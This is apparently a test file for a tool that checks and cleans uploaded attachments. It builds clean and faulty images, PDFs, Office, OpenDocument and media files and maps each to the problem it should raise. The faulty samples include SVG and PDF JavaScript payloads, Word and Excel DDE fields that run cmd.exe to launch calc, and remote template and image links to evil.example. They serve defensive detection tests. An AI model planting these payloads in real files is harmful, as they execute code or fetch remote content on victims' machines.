"""An attachment is what its name says, holds nothing that runs, and tells nothing of the people who made it."""

from __future__ import annotations

import base64
import io
import random
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject

import attachments as made
from attachments import W, app1, box, excel, exif, gif, id3_frame, jpeg, mp3, mp4, open_document, pdf, png, slides, svg, webp, word, xmp
from projects import problems
from publishing.checks import files
from publishing.reading.attachments import text_of_attachment
from publishing.writing.cleaning import cleaned

OWNERS = frozenset(("example partnership",))
GPS, SAM = exif(gps=1), exif(x013b=b"Sam Smith")
EXTENDED, CUSTOM = (f"http://schemas.openxmlformats.org/officeDocument/2006/{sort}-properties" for sort in ("extended", "custom"))
PLACED = jpeg(app1(GPS))


def _pillow(kind: str, **more: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "red").save(out, kind, **more)
    return out.getvalue()


def _para(inner: str) -> str:
    return f"<w:p>{inner}</w:p>"


def _fields(*instructions: str) -> str:
    return _para("".join(f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{"".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in text.split("~"))}'
                         '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>' for text in instructions))


def _linked(kind: str, target: str) -> bytes:
    return word(more={"word/_rels/document.xml.rels": made.relationships((kind, target))})


# PDF


def _dictionary(**values: object) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in values.items()})


def _name(word: str) -> NameObject:
    return NameObject(f"/{word}")


def _script() -> DictionaryObject:
    return _dictionary(S=_name("JavaScript"), JS=TextStringObject("app.alert(1)"))


def _note(**values: object) -> DictionaryObject:
    return _dictionary(Type=_name("Annot"), Rect=ArrayObject([NumberObject(0)] * 4), **values)


def _pdf(change: Callable[[PdfWriter], object]) -> bytes:
    writer = PdfWriter()
    change(writer)
    return pdf(writer=writer)


def _in_root(key: str, value: object) -> bytes:
    return _pdf(lambda writer: writer._root_object.update({NameObject(f"/{key}"): writer._add_object(value)}))


def _annotated(note: DictionaryObject) -> bytes:
    return _pdf(lambda writer: writer._add_object(note))


def _stream(data: bytes, **values: object) -> StreamObject:
    stream = StreamObject()
    stream._data = data
    stream.update(_dictionary(**values))
    return stream


def scanned(words: str = "", before: bytes = b"") -> bytes:
    """Return a PDF whose last page shows a picture."""
    writer = PdfWriter()
    if before:
        writer.append(io.BytesIO(before))
    return pdf(words, writer=writer, picture=True)


SCANNED = scanned()


def _pdf_of(drawn: bytes) -> bytes:
    return pdf("", drawn=drawn)


def _objects_packed(inner: bytes) -> bytes:
    """Return a PDF with an object stream that no list of objects names: only what repairs the file finds it."""
    packed = zlib.compress(inner)
    return pdf().replace(b"\nstartxref", b"\n99 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\nstartxref" % (len(packed), packed), 1)


# Everything that is right

CLEANED = ("docx", "xlsx", "pptx", "odt", "ods", "odp", "pdf", "jpg", "jpeg", "png")
"""The endings of what can be cleaned without a browser."""

RIGHT = {
    "jpg": jpeg(), "jpeg": _pillow("JPEG", quality=80, progressive=True, dpi=(72, 72)), "png": png(), "gif": gif(), "webp": webp(),
    "jpg turned": jpeg(app1(exif(x0112=6, x0131=b"Paint 11", x0132=b"2031:01:01 10:00:00"))), "jpg of ours": jpeg(app1(exif(x013b=b"Example Partnership"))),
    "jpg by a program": jpeg((0xFE, b"CREATOR: gd-jpeg v1.0 (using IJG JPEG v62), quality = 90\n"), (0xE1, b"http://ns.adobe.com/xap/1.0/\0" + xmp("<xmp:CreatorTool>Photo 3</xmp:CreatorTool>"))),
    "png of Pillow": _pillow("PNG"), "gif of Pillow": _pillow("GIF"), "webp of Pillow": _pillow("WEBP", quality=50), "webp without loss": _pillow("WEBP", lossless=True),
    "png with notes": png(made.chunk(b"tEXt", b"Software\0Snipping Tool"), made.chunk(b"tEXt", b"Author\0Example Partnership"), made.chunk(b"eXIf", exif(x0112=1))),
    "png of a Mac's screen": png(made.chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + xmp("<exif:UserComment><rdf:Alt><rdf:li>Screenshot</rdf:li></rdf:Alt></exif:UserComment>"))),
    "svg": svg(), "svg of Graphviz": b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    b'<!-- Generated by graphviz -->\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><g id="a" class="graph" transform="scale(1 1) rotate(0)"><title>G</title>'
    b'<text text-anchor="middle" x="1" y="2" font-family="Times,serif">one (of two)</text></g></svg>',
    "svg of Inkscape": svg('<sodipodi:namedview pagecolor="#fff" inkscape:zoom="1"/><defs><linearGradient id="a" xlink:href="#b"/></defs><g inkscape:label="Layer 1" style="fill:url(#a);stroke:none">'
                           '<use xlink:href="#a"/></g><metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><dc:format>image/svg+xml</dc:format></rdf:RDF></metadata>'
                           "<style>@media print{.a{fill:rgb(0,0,0)}} .b{clip-path:url('#c')}</style>", 'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" '
                           'xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:dc="http://purl.org/dc/elements/1.1/"'),
    "svg with a picture": svg(f'<image width="4" height="4" href="data:image/png;base64,{base64.b64encode(png()).decode()}"/>'),
    "pdf": pdf(), "pdf with a picture": scanned("The words below a picture, which say what to do when."), "pdf with an empty page": _pdf(lambda writer: writer.add_blank_page(9, 9)), "pdf of ours": pdf(information={"/Author": "Example Partnership", "/Creator": "Writer", "/Producer": "LibreOffice 7.4", "/Title": "A poster"}),
    "pdf with links": _annotated(_note(Subtype=_name("Link"), A=_dictionary(S=_name("URI"), URI=TextStringObject("https://example.org/")))),
    "pdf that opens at a page": _in_root("OpenAction", _dictionary(S=_name("GoTo"), D=ArrayObject([NumberObject(0), _name("Fit")]))),
    "pdf of a form": _annotated(_note(Subtype=_name("Widget"), T=TextStringObject("Your name"), FT=_name("Tx"))),
    "pdf with its properties": _pdf(lambda writer: writer._add_object(_stream(xmp("<dc:title>A poster</dc:title><pdf:Producer>x y</pdf:Producer>"), Type=_name("Metadata"), Subtype=_name("XML")))),
    "pdf with tags": _pdf(lambda writer: writer._add_object(_dictionary(Type=_name("StructElem"), S=_name("Figure"), A=_dictionary(O=_name("Layout"))))),
    "docx": word(), "docx of ours": word(more={"docProps/core.xml": made.properties(creator="Example Partnership", title="A form"), "word/media/image1.jpeg": jpeg(), "word/media/image2.emf": b"\1\0\0\0"}),
    "docx with a misnamed picture": word(more={"word/media/image1.jpg": png()}), "docx with fields": word(_fields("TOC\\o", "= 1 + 1", "PAGE \\* MERGEFORMAT", 'HYPERLINK "https://example.org/"', 'HYPERLINK \\l "_Toc1"', ' TOC \\o "1-3"')),
    "docx with a link": _linked("hyperlink", "mailto:help@example.org"),
    "xlsx": excel(), "xlsx that calculates": excel(more={"xl/worksheets/sheet2.xml": '<worksheet xmlns="x"><sheetData><row><c><f>SUM(A1:A9)&amp;" | done!"</f></c></row></sheetData></worksheet>'}),
    "xlsx that was printed": excel(more={"xl/printerSettings/printerSettings1.bin": b"\\\0\\\0"}),
    "pptx": slides(), "odt": open_document(), "ods": open_document("<table:table/>", "ods"), "odp": open_document("", "odp"),
    "odt of ours": open_document('<text:p><text:a xlink:href="https://example.org/">x</text:a></text:p>', meta="<meta:generator>LibreOffice</meta:generator><dc:creator>Example Partnership</dc:creator>",
                                 more={"Pictures/1.jpg": jpeg(), "Configurations2/accelerator/current.xml": "", "Thumbnails/thumbnail.png": png(), "manifest.rdf": "<a/>"}),
    "odt with a chart": open_document(more={"Object 1/content.xml": '<a xmlns:x="http://www.w3.org/1999/xlink"><chart x:href=".."/></a>', "Object 1/meta.xml": "<a/>", "ObjectReplacements/Object 1": b"\1"}),
    "mp4": mp4(), "mp4 of ffmpeg": mp4(box(b"udta", box(b"meta", bytes(4), box(b"hdlr", bytes(8), b"mdir", bytes(13)), box(b"ilst", box(b"\xa9too", box(b"data", bytes(8), b"Lavf60")))))),
    "mp3": mp3(), "mp3 with a title": mp3(("TIT2", b"\0A talk"), ("TXXX", b"\0major_brand\0isom"), ("TPE1", b"\0Example Partnership"), ("COMM", b"\0eng\0")),
    "csv": "Year;Plans\n2031;-5\n+44 151 496 0000;- none\n@home;1 = 1\n".encode("utf-8-sig"), "csv of one": b"a\n1",
    "zip": made.zipped({"in/a.docx": word(), "b.csv": "a,b\n", "read-me.txt": "How to use it.", "__MACOSX/in/._a.docx": b"\0\5\x16\7\0\2"}),
}

# Everything that is wrong: what it is called, and what is found

WRONG = {
    # what they say of people and places
    "jpg place": (PLACED, "file-place"), "jpg author": (jpeg(app1(SAM)), "file-author"), "jpg author for Windows": (jpeg(app1(exif(x9c9d="Sam Smith".encode("utf-16-le")))), "file-author"),
    "jpg description": (jpeg(app1(exif(x010e=b"Sam at school"))), "file-details"), "jpg copyright": (jpeg(app1(exif(x8298=b"Sam Smith"))), "file-details"),
    "jpg camera": (jpeg(app1(exif(x010f=b"Apple"))), "file-details"), "jpg maker note": (jpeg(app1(exif(x927c=b"Sam's iPhone"))), "file-details"), "jpg unknown tag": (jpeg(app1(exif(xfeed=b"Sam"))), "file-details"),
    "jpg damaged notes": (jpeg(app1(b"II*\0\x08\0\0\0\xff\xff")), "file-details"), "jpg comment": (jpeg((0xFE, b"Sam at school")), "file-details"), "jpg block": (jpeg((0xEB, b"JP\0\1Sam")), "file-details"),
    "jpg IPTC by-line": (jpeg((0xED, b"Photoshop 3.0\0" + b"8BIM\4\4\0\0" + struct.pack(">L", 14) + b"\x1c\2\x50\0\x09Sam Smith")), "file-author"),
    "jpg IPTC city": (jpeg((0xED, b"Photoshop 3.0\0" + b"8BIM\4\4\0\0" + struct.pack(">L", 11) + b"\x1c\2\x5a\0\x06Bootle\0")), "file-place"),
    "jpg IPTC caption": (jpeg((0xED, b"Photoshop 3.0\0" + b"8BIM\4\4\0\0" + struct.pack(">L", 8) + b"\x1c\2\x78\0\x03Sam")), "file-details"),
    "jpg XMP author": (jpeg((0xE1, b"http://ns.adobe.com/xap/1.0/\0" + xmp("<dc:creator><rdf:Seq><rdf:li>Sam Smith</rdf:li></rdf:Seq></dc:creator>"))), "file-author"),
    "jpg XMP place": (jpeg((0xE1, b"http://ns.adobe.com/xap/1.0/\0" + xmp("<exif:GPSLatitude>53,26.1N</exif:GPSLatitude>"))), "file-place"),
    "jpg XMP attribute": (jpeg((0xE1, b"http://ns.adobe.com/xap/1.0/\0" + xmp("").replace(b'rdf:about=""', b'rdf:about="" photoshop:Headline="Sam"'))), "file-details"),
    "jpg XMP broken": (jpeg((0xE1, b"http://ns.adobe.com/xap/1.0/\0<x")), "file-details"), "jpg film behind": (jpeg(behind=mp4()), "file-appended"), "jpg program behind": (jpeg(behind=b"PK\3\4"), "file-appended"),
    "png author": (png(made.chunk(b"tEXt", b"Author\0Sam Smith")), "file-author"), "png comment": (png(made.chunk(b"iTXt", b"Comment\0\0\0\0\0Sam")), "file-details"),
    "png packed": (png(made.chunk(b"zTXt", b"Author\0\0" + zlib.compress(b"Sam"))), "file-author"), "png packed too": (png(made.chunk(b"iTXt", b"Description\0\1\0\0\0" + zlib.compress(b"Sam"))), "file-details"),
    "png place": (png(made.chunk(b"eXIf", GPS)), "file-place"), "png block": (png(made.chunk(b"prVW", b"Sam")), "file-details"), "png behind": (png(behind=b"<script>"), "file-appended"),
    "png XMP": (png(made.chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + xmp("<photoshop:City>Bootle</photoshop:City>"))), "file-place"),
    "gif comment": (gif(b"\x21\xfe\3Sam\0"), "file-details"), "gif behind": (gif(behind=b"PK"), "file-appended"), "gif XMP": (gif(b"\x21\xff\x0bXMP DataXMP" + xmp("<dc:creator>Sam Smith</dc:creator>")
        + bytes([1, *range(255, -1, -1), 0])), "file-author"),
    "webp place": (webp((b"EXIF", GPS)), "file-place"), "webp XMP": (webp((b"XMP ", xmp("<dc:creator>Sam Smith</dc:creator>"))), "file-author"), "webp block": (webp((b"Sam ", b"Sam")), "file-details"),
    "webp behind": (webp(behind=b"PK\3\4"), "file-appended"),
    "png of 169 million pixels": (png(width=13_000, height=13_000), "picture-size"), "jpg of the same": (jpeg(width=13_000, height=13_000), "picture-size"), "webp of the same": (webp(width=13_000, height=13_000), "picture-size"),
    "png of one long line": (png(width=1_000_000, height=1), "picture-size"),
    # what they are not
    "png cut": (png()[:-20], "file-contents"), "png with a wrong sum": (png().replace(b"IEND\xae", b"IEND\xaf"), "file-contents"), "png that is a jpg": (jpeg(), "file-contents"), "jpg cut": (jpeg()[:-2], "file-contents"), "jpg of nothing": (b"\xff\xd8\xff\xd9", "file-contents"),
    "gif of HTML": (b"GIF89a/\0/\0<script>", "file-contents"), "webp cut": (webp()[:-1], "file-contents"), "jpg of HTML": (b"<!doctype html>", "file-contents"),
    "mp4 of HTML": (b"<!doctype html><script>alert(1)</script>", "file-contents"), "mp4 of QuickTime": (mp4(brand=b"qt  "), "file-contents"), "mp4 of nothing": (box(b"ftyp", b"isom"), "file-contents"), "mp4 cut": (mp4()[:-1], "file-contents"),
    "mp3 of HTML": (b"<!doctype html>" * 9, "file-contents"), "mp3 of a program": (b"ID3\3\0\0\0\0\0\0MZ", "file-contents"), "mp3 of one sign": (b"\xff\xfb\x90\0<html>" + bytes(999), "file-contents"),
    "docx of another": (made.zipped({"a.txt": "x"}), "file-contents"), "docx of Excel": (excel(), "file-contents"), "docx of an old Word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "file-contents"),
    "docx locked": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"), "file-locked"),
    "docx of a program": (b"MZ" + word(), "file-contents"), "docx with something behind": (word() + b"MZ", "file-contents"), "odt of a sheet": (open_document("", "ods"), "file-contents"), "xlsx cut": (excel()[:-30], "file-contents"),
    "csv of HTML": (b"\n <html><script>", "file-contents"), "csv of SVG": (svg(), "file-contents"), "csv of a program": (b"MZ\0\1", "file-contents"), "csv in ANSI": ("a,£5".encode("cp1252"), "table-not-utf-8"),
    "csv in UTF-16": ("a,£5".encode("utf-16"), "table-not-utf-8"), "pdf of HTML": (b"<html>", "file-contents"), "pdf of little": (b"%PDF-1.7 broken", "file-contents"), "zip of HTML": (b"<html>", "file-contents"),
    # drawings
    **{f"svg {number}": (content, "svg-script") for number, content in enumerate((
        svg("<script>alert(1)</script>"), svg('<s1:script xmlns:s1="http://www.w3.org/2000/svg">alert(1)</s1:script>'), svg(root='onload="x()"'), svg("<path d='M0 0' onClick='x()'/>"),
        svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">x</h:script>'), svg('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>'),
        svg("<path/>").decode().encode("utf-16"), svg("<path/>").decode().encode("utf-16-le"), b'<?xml version="1.0" encoding="UTF-7"?>' + svg(), b'<?xml version="1.0" encoding="iso-8859-1"?>' + svg(),
        svg('<path style="background:image-set(\'http://e.org\' 1x)"/>'), svg('<path fill="url(http://e.org/#a)"/>'), svg("<style>@import 'http://e.org/a.css';</style>"), svg("<style>a{b:u\\72l(//e.org)}</style>"),
        svg("<style>a{b:url(//e.org)}</style>"), svg('<image href="https://example.org/x.png"/>'), svg('<image href="data:image/svg+xml;base64,AAAA"/>'), svg('<use href="a.svg#b"/>'),
        svg('<use x:href="https://e.org#a" xmlns:x="http://www.w3.org/1999/xlink"/>'), svg('<a href="javascript:alert(1)"><path/></a>'), svg('<a href="https://evil.example/"><path/></a>'),
        svg('<path><animate attributeName="href" values="javascript:alert(1)"/></path>'), svg('<path><set attributeName="onclick" to="x"/></path>'), svg('<feImage href="https://e.org/a.png"/>'),
        svg('<iframe src="x"/>'), svg('<handler type="x"/>'), svg('<path xml:base="https://e.org/"/>'), svg('<path ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events"/>'), svg('<video src="x"/>'),
        b'<!DOCTYPE svg [<!ENTITY a "x">]>' + svg("&a;"), b'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>' + svg(), b'<?xml-stylesheet href="https://e.org/a.css"?>' + svg(),
        svg('<style>a{b:expression(alert(1))}</style>'), svg('<cursor href="x"/>'), svg('<font-face-uri href="https://e.org/f.svg"/>'),
        svg("<g id='a'/>" + "".join(f"<g id='{b}'>{f'<use href=chr34#{a}chr34/>'.replace('chr34', chr(34)) * 10}</g>" for a, b in zip("abcdefg", "bcdefgh", strict=True))),
        svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>')))},
    "svg author": (svg('<metadata><dc:creator xmlns:dc="http://purl.org/dc/elements/1.1/">Sam Smith</dc:creator></metadata>'), "file-author"),
    "svg folder": (svg(root='i:export-filename="C:\\Users\\sam\\a.png" xmlns:i="http://www.inkscape.org/namespaces/inkscape"'), "file-details"),
    "svg with a photograph": (svg(f'<image href="data:image/jpeg;base64,{base64.b64encode(PLACED).decode()}"/>'), "file-place"),
    "svg of HTML": (b"<html><body/></html>", "file-contents"), "svg broken": (svg()[:-3], "file-contents"), "svg without its namespace": (b"<svg/>", "file-contents"),
    # PDF
    "pdf without tags": (pdf(tagged=False), "pdf-without-tags"), "pdf of a scan": (SCANNED, "pdf-without-words"), "pdf of a scanner's mark": (scanned("Scanned with Scanner 3"), "pdf-without-words"),
    "pdf of lines": (_pdf_of(b"0 0 m 9 9 l S"), "pdf-without-words"), "pdf with a scanned page": (scanned(before=pdf("A letter")), "pdf-without-words"),
    "pdf author": (pdf(information={"/Author": "Sam Smith"}), "file-author"), "pdf property": (pdf(information={"/Client": "Sam Smith"}), "file-details"),
    "pdf XMP author": (_pdf(lambda writer: writer._add_object(_stream(xmp("<dc:creator><rdf:Seq><rdf:li>Sam Smith</rdf:li></rdf:Seq></dc:creator>"), Type=_name("Metadata")))), "file-author"),
    "pdf photograph": (_pdf(lambda writer: writer._add_object(_stream(PLACED, Subtype=_name("Image"), Filter=_name("DCTDecode")))), "file-place"),
    "pdf comment": (_annotated(_note(Subtype=_name("Text"), T=TextStringObject("Sam Smith"))), "file-changes"), "pdf marked": (_annotated(_note(Subtype=_name("Redact"))), "file-changes"),
    "pdf locked": (_pdf(lambda writer: writer.encrypt("a")), "file-locked"), "pdf behind": (pdf() + b"PK\3\4", "file-appended"),
    "pdf script": (_in_root("OpenAction", _script()), "file-active"), "pdf script of its name": (_in_root("Names", _dictionary(JavaScript=_dictionary(Names=ArrayObject([TextStringObject("a"), _script()])))), "file-active"),
    "pdf name in disguise": (_in_root("OpenAction", _script()).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4a#53"), "file-active"),
    "pdf launch": (_annotated(_note(Subtype=_name("Link"), A=_dictionary(S=_name("Launch"), F=TextStringObject("cmd.exe")))), "file-active"),
    "pdf sends": (_annotated(_note(Subtype=_name("Widget"), A=_dictionary(S=_name("SubmitForm")))), "file-active"), "pdf by itself": (_in_root("AA", _dictionary(O=_dictionary(S=_name("Named")))), "file-active"),
    "pdf script in a link": (_annotated(_note(Subtype=_name("Link"), A=_dictionary(S=_name("URI"), URI=TextStringObject("java\nscript:alert(1)")))), "file-active"),
    "pdf file link": (_annotated(_note(Subtype=_name("Link"), A=_dictionary(S=_name("GoToR"), F=TextStringObject("a.pdf")))), "file-active"),
    "pdf unknown action": (_annotated(_note(Subtype=_name("Link"), A=_dictionary(S=_name("Evil")))), "file-active"), "pdf film": (_annotated(_note(Subtype=_name("RichMedia"))), "file-active"),
    "pdf attachment": (_pdf(lambda writer: writer.add_attachment("a.exe", b"MZ")), "file-active"), "pdf XFA": (_in_root("AcroForm", _dictionary(XFA=ArrayObject())), "file-active"),
    "pdf packed and lost": (_objects_packed(b"5 0 << /S /JavaScript /JS (x) >>"), "file-active"),
    # Office
    "docx author": (word(more={"docProps/core.xml": made.properties(creator="Sam Smith")}), "file-author"), "docx last author": (word(more={"docProps/core.xml": made.properties(lastModifiedBy="Sam Smith")}), "file-author"),
    "docx author elsewhere": (word(more={"word/thing.xml": made.properties(creator="Sam Smith")}), "file-author"), "docx author of .NET": (word(more={"package/services/metadata/core-properties/a1.psmdcp": made.properties(creator="Sam Smith")}), "file-author"),
    "docx manager": (word(more={"docProps/app.xml": f'<Properties xmlns="{EXTENDED}"><Manager>Sam Smith</Manager></Properties>'}), "file-author"),
    "docx property": (word(more={"docProps/custom.xml": f'<Properties xmlns="{CUSTOM}"><property name="Client"><x>Sam Smith</x></property></Properties>'}), "file-details"),
    "docx label": (word(more={"docProps/custom.xml": f'<Properties xmlns="{CUSTOM}"><property name="MSIP_Label_0-1_Owner"><x>sam@example.org</x></property></Properties>'}), "file-details"),
    "docx SharePoint": (word(more={"customXml/item1.xml": "<p><UserInfo><DisplayName>Sam Smith</DisplayName></UserInfo></p>"}), "file-author"),
    "docx photograph": (word(more={"word/media/image1.jpeg": PLACED}), "file-place"), "docx drawing": (word(more={"word/media/image1.svg": svg("<script/>")}), "svg-script"),
    "docx inserted": (word(_para('<w:ins w:author="Sam"><w:r><w:t>x</w:t></w:r></w:ins>')), "file-changes"), "docx deleted": (word(_para('<w:del w:author="Sam"/>')), "file-changes"),
    "docx comments": (word(more={"word/comments.xml": f"<w:comments {W}><w:comment/></w:comments>"}), "file-changes"), "docx people": (word(more={"word/people.xml": "<p><a/></p>"}), "file-changes"),
    "docx macro": (word(more={"word/vbaProject.bin": b"x"}), "file-active"), "docx binary": (word(more={"word/thing.bin": b"x"}), "file-active"), "docx control": (word(more={"word/activeX/activeX1.bin": b"x"}), "file-active"),
    "docx object": (word(more={"word/embeddings/oleObject1.bin": b"x"}), "file-active"), "docx sheet inside": (word(more={"word/embeddings/Sheet1.xlsx": excel()}), "file-active"),
    "docx for macros": (word(kind="ms-word.document.macroEnabled"), "file-contents"), "docx of a template": (word(kind="wordprocessingml.template"), "file-contents"), "docx macro's data": (word(more={"word/vbaData.xml": "<a/>"}), "file-active"),
    "docx template": (_linked("attachedTemplate", "https://evil.example/a.dotm"), "file-active"), "docx picture elsewhere": (_linked("image", "https://evil.example/a.png"), "file-active"),
    "docx frame": (_linked("frame", "https://evil.example/"), "file-active"), "docx script": (_linked("hyperlink", "javascript:alert(1)"), "file-active"), "docx file": (_linked("hyperlink", "file:///C:/a.exe"), "file-active"),
    "docx hidden words": (word(_para('<w:r><w:rPr><w:vanish/></w:rPr><w:t>Sam</w:t></w:r>')), "file-hidden"), "docx cut picture": (word(_para('<w:r><a:srcRect xmlns:a="x" l="2500"/></w:r>')), "file-hidden"),
    "docx link to SharePoint": (_linked("hyperlink", "https://council.sharepoint.com/:w:/s/team"), "link-in-file"), "docx out of an email": (_linked("hyperlink", "https://eur01.safelinks.protection.outlook.com/?url=x"), "link-in-file"),
    "odt SharePoint": (open_document('<text:a xlink:href="https://council.sharepoint.com/:w:/s/team"/>'), "link-in-file"),
    "pdf SharePoint": (_annotated(_note(Subtype=_name("Link"), A=_dictionary(S=_name("URI"), URI=TextStringObject("https://council.sharepoint.com/:w:/s/team")))), "link-in-file"),
    "docx DDE": (word(_fields('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')), "file-active"), "docx DDE in pieces": (word(_fields("DD~EAUTO c cmd")), "file-active"), "docx quoted": (word(_fields("QUOTE 68 68 69")), "file-active"),
    "docx DDE simple": (word(_para('<w:fldSimple w:instr=" dde a b"/>')), "file-active"), "docx included": (word(_fields('INCLUDEPICTURE "https://evil.example/a.png"')), "file-active"),
    "docx out of it": (word(more={"../../evil.xml": "x"}), "file-contents"), "docx absolute": (word(more={"/evil.xml": "x"}), "file-contents"), "docx entities": (word(more={"word/footer1.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'}), "file-contents"),
    "xlsx author": (excel(more={"docProps/core.xml": made.properties(creator="Sam Smith")}), "file-author"), "xlsx hidden": (excel(state="veryHidden"), "file-hidden"), "xlsx link": (excel(more={"xl/externalLinks/externalLink1.xml": "<a/>"}), "file-active"),
    "xlsx fetches": (excel(more={"xl/worksheets/sheet2.xml": '<worksheet xmlns="x"><f>WEBSERVICE("https://e.org")</f></worksheet>'}), "file-active"), "xlsx DDE": (excel(more={"xl/worksheets/sheet2.xml": "<a><f>cmd|'/c calc'!A0</f></a>"}), "file-active"),
    "xlsx connection": (excel(more={"xl/connections.xml": "<a/>"}), "file-active"), "xlsx old macro": (excel(more={"xl/macrosheets/sheet1.xml": "<a/>"}), "file-active"), "xlsx comments": (excel(more={"xl/comments1.xml": "<a><b/></a>"}), "file-changes"),
    "xlsx pivot": (excel(more={"xl/pivotCache/pivotCacheRecords1.xml": "<pivotCacheRecords><r/></pivotCacheRecords>"}), "file-hidden"), "xlsx columns": (excel(more={"xl/worksheets/sheet2.xml": '<a><col hidden="1"/></a>'}), "file-hidden"),
    "pptx author": (slides(more={"docProps/core.xml": made.properties(creator="Sam Smith")}), "file-author"), "pptx authors": (slides(more={"ppt/commentAuthors.xml": "<a><b/></a>"}), "file-changes"),
    "pptx program": (slides(more={"ppt/slides/slide2.xml": '<a><hlinkClick action="ppaction://program"/></a>'}), "file-active"), "pptx film": (slides(more={"ppt/media/media1.mp4": mp4(box(b"udta", box(b"\xa9xyz", b"\0\x08\x15\xc7+53-003/")))}), "file-place"),
    "odt author": (open_document(meta="<meta:initial-creator>Sam Smith</meta:initial-creator>"), "file-author"), "odt template": (open_document(meta='<meta:template xlink:href="file:///home/sam/a.ott"/>'), "file-details"),
    "odt property": (open_document(meta='<meta:user-defined meta:name="Client">Sam Smith</meta:user-defined>'), "file-details"), "odt photograph": (open_document(more={"Pictures/a.jpg": PLACED}), "file-place"),
    "odt macro": (open_document(more={"Basic/Standard/Module1.xml": "<a/>"}), "file-active"), "odt script": (open_document(more={"Scripts/python/a.py": "x"}), "file-active"), "odt event": (open_document("<script:event-listener/>"), "file-active"),
    "odt changes": (open_document("<text:tracked-changes><text:changed-region/></text:tracked-changes>"), "file-changes"), "odt comment": (open_document("<office:annotation/>"), "file-changes"),
    "odt picture elsewhere": (open_document('<draw:image xlink:href="https://evil.example/a.png"/>'), "file-active"), "odt link to a script": (open_document('<text:a xlink:href="vnd.sun.star.script:a"/>'), "file-active"),
    "odt object": (open_document(more={"Object 1": b"\xd0\xcf"}), "file-active"), "ods DDE": (open_document('<office:dde-source/>', "ods"), "file-active"), "ods hidden": (open_document('<style:style xmlns:style="x" style:name="ta1"><style:table-properties table:display="false"/></style:style><table:table table:name="Names" table:style-name="ta1"/>', "ods"), "file-hidden"),
    "odp hidden": (open_document('<style:style xmlns:style="x" style:name="dp1"><style:drawing-page-properties xmlns:presentation="z" presentation:visibility="hidden"/></style:style><draw:page xmlns:draw="y" draw:name="page3" draw:style-name="dp1"/>', "odp"), "file-hidden"),
    "odt locked": (open_document(more={"META-INF/manifest.xml": "<a><manifest:encryption-data/></a>"}), "file-locked"),
    # films, sound, tables, ZIP files
    "mp4 place": (mp4(box(b"udta", box(b"\xa9xyz", b"\0\x12\x15\xc7+53.4500-003.0000/"))), "file-place"), "mp4 place of 3GPP": (mp4(box(b"udta", box(b"loci", b"\0\0\0\0\x15\xc7Bootle\0"))), "file-place"),
    "mp4 place of an iPhone": (mp4(box(b"meta", box(b"hdlr", bytes(8), b"mdta", bytes(13)), box(b"keys", bytes(4), struct.pack(">L", 1), box(b"mdta", b"com.apple.quicktime.location.ISO6709")),
                                       box(b"ilst", box(b"\0\0\0\1", box(b"data", bytes(8), b"+53-003/"))))), "file-place"),
    "mp4 author": (mp4(box(b"udta", box(b"meta", bytes(4), box(b"ilst", box(b"\xa9ART", box(b"data", bytes(8), b"Sam Smith")))))), "file-author"), "mp4 camera": (mp4(box(b"udta", box(b"\xa9mod", b"\0\x08\x15\xc7iPhone 9"))), "file-details"),
    "mp4 track of places": (mp4(handler=b"camm"), "file-place"), "mp4 measured": (mp4(handler=b"meta"), "file-details"), "mp4 XMP": (mp4(behind=box(b"uuid", bytes.fromhex("be7acfcb97a942e89c71999491e3afac"), xmp("<dc:creator>Sam Smith</dc:creator>"))), "file-author"),
    "mp4 behind": (mp4(behind=b"\0\0\0\1"), "file-appended"), "mp4 elsewhere": (mp4(box(b"dinf", box(b"dref", bytes(4), struct.pack(">L", 1), box(b"url ", bytes(4), b"https://evil.example/")))), "file-active"),
    "mp3 artist": (mp3(("TPE1", b"\0Sam Smith")), "file-author"), "mp3 comment": (mp3(("COMM", b"\0eng\0Sam at school")), "file-details"), "mp3 own": (mp3(("TXXX", b"\0who\0Sam")), "file-details"),
    "mp3 packed": (mp3(("TIT2", b"\0A talk")).replace(b"\0\0\0A talk", b"\0\x80\0A talk"), "file-details"), "mp3 picture of a chapter": (mp3(("CHAP", b"c1\0" + bytes(16) + id3_frame("APIC", b"\0image/jpeg\0\3\0" + PLACED))), "file-place"),
    "mp3 file": (mp3(("GEOB", b"\0application/exe\0\0\0MZ")), "file-active"), "mp3 cover": (mp3(("APIC", b"\0image/jpeg\0\3\0" + PLACED)), "file-place"), "mp3 old tag": (mp3(behind=b"TAG" + bytes(30) + b"Sam Smith".ljust(95, b"\0")), "file-author"),
